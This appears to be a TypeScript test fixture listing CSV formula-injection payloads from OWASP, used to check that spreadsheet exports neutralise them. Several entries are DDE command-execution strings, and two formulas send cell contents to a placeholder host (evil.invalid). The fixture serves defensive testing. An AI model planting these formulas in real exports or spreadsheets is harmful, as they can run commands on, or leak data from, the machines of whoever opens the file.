// The formula-injection payloads of OWASP's CSV Injection page (and the variants the issue reproduced), for the
// export tests: each must come out of every CSV and XLSX as text, never as a live formula.
export const FORMULA_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.invalid/?leak="&A1,"คลิกที่นี่")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=1+1`,
  `\t=1+1`,
  `\r=1+1`,
  `=IMPORTXML(CONCAT("http://evil.invalid/?v=",A1),"//a")`,
  `-`,
] as const;
